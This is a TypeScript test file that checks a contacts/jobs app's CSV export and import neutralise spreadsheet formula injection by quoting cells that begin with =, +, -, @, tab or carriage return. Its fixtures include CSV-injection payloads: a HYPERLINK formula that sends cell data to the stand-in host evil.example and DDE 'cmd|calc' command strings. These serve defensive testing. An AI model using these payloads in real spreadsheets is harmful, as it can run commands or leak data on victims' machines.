// Spreadsheet formula injection, in the export and import services against a real database:
// a CSV export quotes every text cell a spreadsheet would run (= + - @ tab CR, after any
// quotes), --raw does not, numbers stay numbers, and importing the export gives back exactly
// the stored values; a --rejects file quotes the rejected rows' cells the same way and reads
// back to the rows as given. JSON input is never unquoted.
import { createReadStream, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { Types } from 'mongoose';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { Repositories, UserRepositories } from '../../src/repositories/index.js';
import { csvCell, neutraliseCell, restoreCell } from '../../src/services/csv-cells.js';
import { exportRecords } from '../../src/services/export/index.js';
import { openImport, runImport } from '../../src/services/import/index.js';
import { csvRows } from '../../src/services/import/readers.js';
import type { ImportType } from '../../src/services/import/types.js';
import { isolatedRepositories, type IsolatedRepositories } from '../helpers/database.js';
import { makeTempDir, removeTempDirs } from '../helpers/temp-dirs.js';

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

let opened: IsolatedRepositories;
let repositories: Repositories;
let dir: string;

beforeAll(async () => {
  opened = await isolatedRepositories();
  repositories = opened.repositories;
  dir = makeTempDir('career-formulas-');
});

afterAll(async () => {
  await opened?.close();
  removeTempDirs();
});

/** Contacts whose text starts as formulas do, or as our quoting of them does. */
const CONTACTS = [
  {
    name: '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    company: "+cmd|' /C calc'!A0",
    title: '@SUM(1+1)*cmd|calc',
    phone: '+1 555 0100',
    notes: '\t=1+1 after a tab',
    tags: ['=tag', 'plain'],
  },
  {
    name: "'=already quoted once",
    company: "''+quoted twice",
    title: '-2+3',
    notes: '\r\nstarts with a carriage return',
  },
  {
    name: "'plain quote",
    company: "it's fine",
    title: "O'Reilly",
    notes: "'''@three quotes",
  },
  { name: 'Ada Lovelace', company: 'ACME', title: 'Engineer', notes: 'a = b + c - d @ e' },
];

function user(): UserRepositories {
  return repositories.forUser(new Types.ObjectId());
}

function collector(): { out: Writable; text: () => string } {
  const chunks: Buffer[] = [];
  const out = new Writable({
    write(chunk: Buffer, _encoding, done) {
      chunks.push(chunk);
      done();
    },
  });
  return { out, text: () => Buffer.concat(chunks).toString('utf8') };
}

async function exported(
  data: UserRepositories,
  type: ImportType,
  format: 'csv' | 'json',
  raw = false,
): Promise<string> {
  const { out, text } = collector();
  await exportRecords(data, { type, format, raw }, out);
  return text();
}

async function importFile(
  data: UserRepositories,
  file: string,
  type: ImportType,
  options: { raw?: boolean; rejectsFile?: string } = {},
) {
  const source = await openImport({ file, type, raw: options.raw === true });
  return runImport(data, source, { dryRun: false, rejectsFile: options.rejectsFile });
}

/** The stored records as plain values, without what differs between two owners. */
async function storedContacts(data: UserRepositories): Promise<Array<Record<string, unknown>>> {
  const records = JSON.parse(await exported(data, 'contacts', 'json')) as Array<
    Record<string, unknown>
  >;
  return records
    .map(({ _id, createdAt, updatedAt, ...rest }) => (void [_id, createdAt, updatedAt], rest))
    .sort((a, b) => String(a.name).localeCompare(String(b.name)));
}

function cellsOf(csv: string): Array<Record<string, string>> {
  return parse(csv, { columns: true }) as Array<Record<string, string>>;
}

describe('the quoting rule', () => {
  it('is undone exactly by reading, for every string of these characters up to 5 long', () => {
    const alphabet = ["'", '=', '+', '-', '@', '\t', '\r', 'a', ' '];
    let strings = [''];
    let all = [''];
    for (let length = 1; length <= 5; length++) {
      strings = strings.flatMap((text) => alphabet.map((character) => text + character));
      all = all.concat(strings);
    }
    const wrong = all.filter((text) => {
      const written = neutraliseCell(text);
      return /^[=+\-@\t\r]/.test(written) || restoreCell(written) !== text;
    });
    expect(all).toHaveLength(66430);
    expect(wrong).toEqual([]);
  });

  it('leaves numbers alone, and everything with raw', () => {
    expect(csvCell(-5, false)).toBe(-5);
    expect(csvCell('-5', false)).toBe("'-5");
    expect(csvCell('=x', true)).toBe('=x');
  });
});

describe('CSV formula neutralisation', () => {
  it('quotes formula cells on export, --raw does not, and a re-import gives back the exact values', async () => {
    const source = user();
    const json = path.join(dir, 'contacts.json');
    writeFileSync(json, JSON.stringify(CONTACTS));
    const seeded = await importFile(source, json, 'contacts');
    expect(seeded.inserted).toBe(CONTACTS.length);
    // JSON is never unquoted: a leading quote there is part of the value.
    const stored = await storedContacts(source);
    expect(stored.map((contact) => contact.name)).toContain("'=already quoted once");

    const csv = await exported(source, 'contacts', 'csv');
    const byName = new Map(cellsOf(csv).map((row) => [row.name, row]));
    const first = byName.get(`'${CONTACTS[0]?.name}`);
    expect(first).toMatchObject({
      company: "'+cmd|' /C calc'!A0",
      title: "'@SUM(1+1)*cmd|calc",
      phone: "'+1 555 0100",
      notes: "'\t=1+1 after a tab",
      // JSON text of a list starts with [: not a formula.
      tags: '["=tag","plain"]',
    });
    expect(byName.get("''=already quoted once")).toMatchObject({
      company: "'''+quoted twice",
      title: "'-2+3",
      notes: "'\r\nstarts with a carriage return",
    });
    // A quote not followed (after more quotes) by a formula character is left alone.
    expect(byName.get("'plain quote")).toMatchObject({
      company: "it's fine",
      title: "O'Reilly",
      notes: "''''@three quotes",
    });
    expect(byName.get('Ada Lovelace')?.notes).toBe('a = b + c - d @ e');
    // Every cell a spreadsheet would run is quoted.
    for (const row of cellsOf(csv)) {
      for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    }

    const raw = cellsOf(await exported(source, 'contacts', 'csv', true));
    expect(raw.map((row) => row.name)).toContain(CONTACTS[0]?.name);
    expect(raw.find((row) => row.name === CONTACTS[0]?.name)?.notes).toBe(CONTACTS[0]?.notes);

    const file = path.join(dir, 'contacts.csv');
    writeFileSync(file, csv);
    const target = user();
    const reimported = await importFile(target, file, 'contacts');
    expect(reimported).toMatchObject({ inserted: CONTACTS.length, rejected: 0 });
    expect(await storedContacts(target)).toEqual(stored);
  });

  it('keeps numbers as numbers: a salary is never quoted', async () => {
    const data = user();
    const json = path.join(dir, 'jobs.json');
    writeFileSync(
      json,
      JSON.stringify([{ company: '-ACME', title: 'Engineer', salary: { min: 60000, max: 75000 } }]),
    );
    await importFile(data, json, 'jobs');
    const [row] = cellsOf(await exported(data, 'jobs', 'csv'));
    expect(row).toMatchObject({ company: "'-ACME", 'salary.min': '60000', 'salary.max': '75000' });
  });

  it('quotes the rejected rows in a --rejects file, which reads back to the rows as given', async () => {
    const data = user();
    const header = ['name', 'email', 'company', '=Formula Column'];
    const rows = [
      ['=HYPERLINK("http://evil.example","x")', 'not-an-email', '+cmd|calc', '@SUM(A1)'],
      ["'=quoted", '@not-an-email', "''-x", '\tTab'],
      ['Grace Hopper', 'grace@navy.mil', '=ok but imported', ''],
    ];
    const csvText = [header, ...rows]
      .map((cells) => cells.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(','))
      .join('\n');
    const input = path.join(dir, 'leads.csv');
    // Written raw, as a hand-made file would be: nothing quoted yet except the ' rows.
    writeFileSync(input, `${csvText}\n`);
    const rejectsFile = path.join(dir, 'rejects.csv');
    const summary = await importFile(data, input, 'contacts', { rejectsFile });
    expect(summary).toMatchObject({ inserted: 1, rejected: 2 });

    const rejectsText = readFileSync(rejectsFile, 'utf8');
    const written = parse(rejectsText) as string[][];
    // The header repeats the source's, quoted where it is a formula.
    expect(written[0]).toEqual(['name', 'email', 'company', "'=Formula Column", 'line', 'reason']);
    expect(written[1]?.slice(0, 4)).toEqual([
      `'${rows[0]?.[0]}`,
      'not-an-email',
      "'+cmd|calc",
      "'@SUM(A1)",
    ]);
    // The second row's cells were read as our quoting ('=quoted is =quoted) and written back so.
    expect(written[2]?.slice(0, 4)).toEqual(["'=quoted", "'@not-an-email", "''-x", "'\tTab"]);
    for (const row of written) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    // Read back by the import's own reader: the values of the rows as first read.
    const columns: string[][] = [];
    const readBack = [];
    for await (const row of csvRows(createReadStream(rejectsFile), {
      onHeader: (names) => columns.push(names),
    })) {
      readBack.push(header.map((column) => row.values[column]));
    }
    expect(columns[0]?.slice(0, 4)).toEqual(header);
    expect(readBack).toEqual([rows[0], ['=quoted', '@not-an-email', "'-x", '\tTab']]);

    // --raw: cells taken as written, and the rejects written as they are.
    const rawRejects = path.join(dir, 'rejects-raw.csv');
    await importFile(user(), input, 'contacts', { raw: true, rejectsFile: rawRejects });
    const rawWritten = parse(readFileSync(rawRejects, 'utf8')) as string[][];
    expect(rawWritten[0]?.[3]).toBe('=Formula Column');
    expect(rawWritten.slice(1).map((row) => row.slice(0, 4))).toEqual(rows.slice(0, 2));
  });
});
